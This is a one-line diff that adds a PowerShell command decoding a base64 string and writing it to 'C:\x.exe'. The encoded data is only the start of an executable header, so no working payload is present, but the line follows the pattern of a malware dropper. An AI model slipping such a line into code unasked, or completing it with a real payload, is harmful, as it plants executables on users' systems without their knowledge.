@@ -1,0 +1,1 @@
+[IO.File]::WriteAllBytes('C:\x.exe',[Convert]::FromBase64String('TVqQAAMAAAAEAAAA'))
